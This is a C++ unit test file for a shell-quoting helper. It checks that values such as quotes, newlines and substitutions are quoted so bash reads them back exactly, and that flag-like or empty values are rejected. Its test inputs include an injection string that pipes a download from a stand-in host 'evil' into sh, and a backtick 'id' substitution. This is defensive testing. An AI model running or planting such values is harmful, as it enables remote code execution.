#include "base/shell_word.h"

#include <gtest/gtest.h>

#include "testing/process_runner.h"

namespace kexit {
namespace {

using testing_support::Process;

// What bash makes of `printf '%s\n' WORD`: the word as the program it runs would get it.
std::string as_bash_reads_it(const std::string& word) {
  Process process({"/bin/bash", "-c", "printf '%s\\n' " + word});
  auto result = process.finish(std::chrono::seconds(30));
  EXPECT_EQ(result.exit_code, 0) << result.err;
  return result.out;
}

TEST(ShellWord, APlainNameStaysAsItIs) {
  EXPECT_EQ(shell_word("deployment/api"), "deployment/api");
  EXPECT_EQ(shell_word("registry.example.com/shop/api:2.1@sha256:ab"),
            "registry.example.com/shop/api:2.1@sha256:ab");
}

TEST(ShellWord, AnythingAShellWouldReadIsQuotedAndReadBackExactly) {
  for (const std::string value : {"it's", "a b", "x$(curl evil|sh)", "`id`", "\"$HOME\"",
                                  "back\\slash", "''", "a\nb", "*", "~root", "#x", "[{\"a\":1}]"}) {
    EXPECT_EQ(as_bash_reads_it(shell_word(value)), value + "\n") << shell_word(value);
  }
  EXPECT_EQ(shell_word("it's"), "'it'\\''s'");
}

TEST(ShellWord, AFlagLikeOrEmptyValueIsNoWord) {
  EXPECT_EQ(shell_word("--kubeconfig=/tmp/x"), "");
  EXPECT_EQ(shell_word("-n"), "");
  EXPECT_EQ(shell_word(""), "");
}

}  // namespace
}  // namespace kexit
